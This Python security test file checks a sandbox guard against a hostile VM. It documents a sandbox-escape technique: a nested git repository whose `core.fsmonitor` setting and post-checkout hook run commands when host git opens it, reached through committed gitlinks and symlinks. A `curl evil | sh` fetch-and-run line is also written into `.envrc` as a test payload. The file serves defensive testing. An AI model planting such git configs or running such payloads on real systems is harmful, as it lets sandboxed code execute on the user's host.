"""A hostile VM against what the guard keeps for review: the guard once moved the VM's nested
repository into `.opencode-sandbox/guard/<time>/`, inside the checkout, where the VM read its
path and committed a gitlink at it; the host's git
entered the moved repository and ran its `core.fsmonitor`, as did the user's `git status` and a
user who looked at the copy with git.

Nothing kept for review lies in the checkout now: the copies are in the project's private state
folder, and no path of the checkout leads to them. Each test is one attack, driven on a real
checkout through the guard's own rounds (`catch_while_running`, as the idle reaper runs it).
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from opencode_sandbox.app import App
from opencode_sandbox.core.guard import OLD_REVIEW_FOLDER
from opencode_sandbox.services.guard.moves import Notes, catch_while_running
from opencode_sandbox.services.guard.reviews import GuardStore, review
from tests.security.test_guard_below_attacks import app
from tests.services.app_fakes import SLUG, messages
from tests.services.test_guard import git

__all__ = ["app"]  # a fixture, used by name


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    root = tmp_path / "checkout"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "README.md").write_text("# project\n")
    (root / ".envrc").write_text("export A=1\n")
    (root / ".opencode-sandbox").mkdir()  # made by every start
    (root / ".opencode-sandbox" / "config.yaml").write_text("network: public\n")
    git(root, "add", ".")
    assert git(root, "commit", "-q", "-m", "init").returncode == 0
    return root


def catch(app: App) -> Notes:
    return catch_while_running(app.state.project_dir(SLUG).parent, SLUG, lambda _: None)


def review_root(app: App) -> Path:
    return GuardStore(app.state.project_dir(SLUG)).review


def everything_in(folder: Path) -> set[str]:
    """Every path below `folder`, none followed through a link."""
    found: set[str] = set()
    for here, folders, files in os.walk(folder):
        found |= {os.path.relpath(os.path.join(here, name), folder) for name in (*folders, *files)}
    return found


def plant_repository(folder: Path, marker: Path) -> None:
    """A nested repository whose configuration runs a program wherever git opens it."""
    git(folder.parent, "init", "-q", str(folder))
    git(folder, "config", "core.fsmonitor", f"touch {marker}; false")
    hook = folder / ".git" / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)


def test_after_a_move_the_checkout_holds_nothing_of_the_guards_and_the_copies_cannot_run(
        app: App, checkout: Path, tmp_path: Path) -> None:
    review(app, vm_may_write_after=True)  # the start
    before = everything_in(checkout)
    plant_repository(checkout / "sub", tmp_path / "fsmonitor-ran")
    (checkout / ".envrc").write_text("curl evil | sh\n")
    (checkout / ".envrc").chmod(0o755)

    notes = catch(app)

    assert not (checkout / OLD_REVIEW_FOLDER).exists() and not (checkout / OLD_REVIEW_FOLDER).is_symlink()
    assert everything_in(checkout) - before == {"sub"}, "only the (empty) folder the VM made stays"
    [moved] = notes.moved
    kept = Path(moved.split(" -> ")[1])
    assert moved.startswith("sub/.git -> ") and kept.is_relative_to(review_root(app))
    assert not kept.is_relative_to(checkout) and (kept / "config").is_file()
    assert review_root(app).stat().st_mode & 0o777 == 0o700, "the review folder is private to the user"
    envrc = Path(notes.held[0].kept)
    assert envrc.is_relative_to(review_root(app)) and envrc.read_text() == "curl evil | sh\n"
    for path in (envrc, *kept.rglob("*")):
        if path.is_file() and not path.is_symlink():
            assert path.stat().st_mode & 0o7111 == 0, f"{path} can run"


def test_no_path_of_the_checkout_leads_to_a_moved_repository_and_a_gitlink_at_its_old_place_runs_nothing(
        app: App, checkout: Path, tmp_path: Path) -> None:
    """The attack itself: the VM reads where its repository went and commits a gitlink there; the
    host's git (the sync's fast-forward, then every `git status` of the user) enters it."""
    marker = tmp_path / "fsmonitor-ran"
    review(app, vm_may_write_after=True)
    plant_repository(checkout / "sub", marker)

    [moved] = catch(app).moved
    kept = (checkout / moved.split(" -> ")[1]).resolve()  # older versions named it relative to the checkout

    reaching = [path for path in everything_in(checkout)
                if Path(os.path.realpath(checkout / path)).is_relative_to(kept)]
    assert reaching == [], f"a path of the checkout leads to the moved repository: {reaching}"
    stamp = kept.parent.parent.name
    gitlinks = {f"{OLD_REVIEW_FOLDER}/{stamp}/sub"}  # where older versions kept it, the time as the VM sees it
    if kept.is_relative_to(checkout.resolve()):
        gitlinks.add(str(kept.parent.relative_to(checkout.resolve())))
    commit = commit_with_gitlinks(checkout, sorted(gitlinks))
    scratch = {**os.environ, "GIT_INDEX_FILE": str(tmp_path / "scratch-index")}
    for argv in (("read-tree", commit), ("update-index", "-q", "--refresh"), ("diff-files", "--quiet")):
        subprocess.run(["git", *argv], cwd=checkout, env=scratch, capture_output=True, check=False)
    git(checkout, "read-tree", commit)  # the branch moved: the user's own index holds the gitlinks
    git(checkout, "status")
    git(checkout, "diff", "HEAD")

    assert not marker.exists(), "the host's git ran the configuration of the VM's repository"


def commit_with_gitlinks(checkout: Path, paths: list[str]) -> str:
    """A commit of the VM's: the checkout's tree and a gitlink at each path (any commit id will do)."""
    index = {**os.environ, "GIT_INDEX_FILE": str(checkout.parent / "vm-index")}

    def run(*argv: str) -> str:
        done = subprocess.run(["git", "-c", "user.name=vm", "-c", "user.email=vm@example.com", *argv], cwd=checkout,
                              env=index, capture_output=True, text=True, check=True)
        return done.stdout.strip()

    run("read-tree", "HEAD")
    for path in paths:
        run("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},{path}")
    return run("commit-tree", run("write-tree"), "-p", "HEAD", "-m", "vendor a module")


def test_a_link_the_vm_makes_to_the_review_folder_is_moved_aside(app: App, checkout: Path, tmp_path: Path) -> None:
    """The VM can learn the state folder's path (its mount table names it): a link there is moved
    aside like one into the VM's own git directory, and nothing it points at is touched."""
    review(app, vm_may_write_after=True)
    plant_repository(checkout / "sub", tmp_path / "fsmonitor-ran")
    kept = Path(catch(app).moved[0].split(" -> ")[1])
    (checkout / "vendor").symlink_to(kept.parent)
    (checkout / "all").symlink_to(review_root(app))

    notes = catch(app)

    assert sorted(line.split(" -> ")[0] for line in notes.moved) == ["all", "vendor"]
    assert not (checkout / "vendor").is_symlink() and not (checkout / "all").is_symlink()
    assert (kept / "config").is_file(), "nothing a link points at is touched"


def test_the_review_says_where_the_copies_are_and_not_to_run_git_there(app: App, checkout: Path,
                                                                       tmp_path: Path) -> None:
    review(app, vm_may_write_after=True)
    plant_repository(checkout / "sub", tmp_path / "fsmonitor-ran")
    catch(app)

    review(app, vm_may_write_after=True)  # the detach tells it

    said = messages(app)
    assert f"sub/.git -> {review_root(app)}/" in said
    assert "run no git command in one" in said
    assert not (tmp_path / "fsmonitor-ran").exists()
